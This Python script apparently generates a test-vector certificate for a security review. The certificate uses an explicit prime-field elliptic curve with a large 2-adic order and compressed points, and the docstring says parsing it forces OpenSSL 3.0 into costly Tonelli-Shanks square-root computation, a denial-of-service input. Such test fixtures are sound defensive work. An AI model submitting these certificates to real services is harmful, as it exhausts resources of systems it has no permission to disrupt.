#!/usr/bin/env python3
"""A certificate whose subject public key is an EC key over an explicit prime field p with
p - 1 = k * 2^e, e large, and compressed points (generator and key). Reading the certificate makes
OpenSSL 3.0 decompress both points with Tonelli-Shanks (BN_mod_sqrt), O(e^2) modular squarings.
No private key exists: the certificate is never valid, only parsed.

Usage: make-x5c-explicit-curve-cert.py OUT.pem|OUT.der [e] [bits]
(TestVectors/x5c-explicit-curve/explicit-curve.pem: the defaults, e = 640, 661 bits.)"""
import random, sys

def is_probable_prime(n, rounds=40):
    if n < 2: return False
    for small in (2, 3, 5, 7, 11, 13, 17, 19, 23, 29, 31, 37):
        if n % small == 0: return n == small
    d, s = n - 1, 0
    while d % 2 == 0: d //= 2; s += 1
    for _ in range(rounds):
        a = random.randrange(2, n - 2)
        x = pow(a, d, n)
        if x in (1, n - 1): continue
        for _ in range(s - 1):
            x = x * x % n
            if x == n - 1: break
        else:
            return False
    return True

def length(n):
    if n < 0x80: return bytes([n])
    b = n.to_bytes((n.bit_length() + 7) // 8, 'big')
    return bytes([0x80 | len(b)]) + b

def tlv(tag, body): return bytes([tag]) + length(len(body)) + body
def seq(*parts): return tlv(0x30, b''.join(parts))
def integer(n):
    b = n.to_bytes(max(1, (n.bit_length() + 8) // 8), 'big')
    return tlv(0x02, b)
def oid(text):
    arcs = [int(a) for a in text.split('.')]
    out = bytes([40 * arcs[0] + arcs[1]])
    for arc in arcs[2:]:
        chunk = [arc & 0x7f]; arc >>= 7
        while arc: chunk.append(0x80 | (arc & 0x7f)); arc >>= 7
        out += bytes(reversed(chunk))
    return tlv(0x06, out)
def octets(b): return tlv(0x04, b)
def bitstring(b): return tlv(0x03, b'\x00' + b)
def name(cn): return seq(tlv(0x31, seq(oid('2.5.4.3'), tlv(0x0c, cn.encode()))))

def main():
    out = sys.argv[1]
    e = int(sys.argv[2]) if len(sys.argv) > 2 else 640
    bits = int(sys.argv[3]) if len(sys.argv) > 3 else 661
    random.seed(24)
    while True:
        k = random.getrandbits(bits - e) | (1 << (bits - e - 1)) | 1
        p = k * (1 << e) + 1
        if p.bit_length() == bits and is_probable_prime(p): break
    size = (bits + 7) // 8
    a, b = random.randrange(p), random.randrange(p)
    def compressed_point():
        while True:
            x = random.randrange(p)
            rhs = (x * x * x + a * x + b) % p
            if rhs and pow(rhs, (p - 1) // 2, p) == 1:
                return b'\x02' + x.to_bytes(size, 'big')
    parameters = seq(
        integer(1),
        seq(oid('1.2.840.10045.1.1'), integer(p)),
        seq(octets(a.to_bytes(size, 'big')), octets(b.to_bytes(size, 'big'))),
        octets(compressed_point()),
        integer(p),
        integer(1),
    )
    spki = seq(seq(oid('1.2.840.10045.2.1'), parameters), bitstring(compressed_point()))
    ecdsa = seq(oid('1.2.840.10045.4.3.2'))
    tbs = seq(
        tlv(0xa0, integer(2)),
        integer(random.getrandbits(63)),
        ecdsa,
        name('Review DoS issuer'),
        seq(tlv(0x17, b'250101000000Z'), tlv(0x17, b'491231235959Z')),
        name('Review DoS leaf'),
        spki,
    )
    signature = seq(integer(random.getrandbits(255)), integer(random.getrandbits(255)))
    certificate = seq(tbs, ecdsa, bitstring(signature))
    if out.endswith('.pem'):
        import base64, textwrap
        body = '\n'.join(textwrap.wrap(base64.b64encode(certificate).decode(), 64))
        open(out, 'w').write(f'-----BEGIN CERTIFICATE-----\n{body}\n-----END CERTIFICATE-----\n')
    else:
        open(out, 'wb').write(certificate)
    print(f'{out}: {len(certificate)} bytes, p {p.bit_length()} bits, 2-adic order {e}', file=sys.stderr)

main()
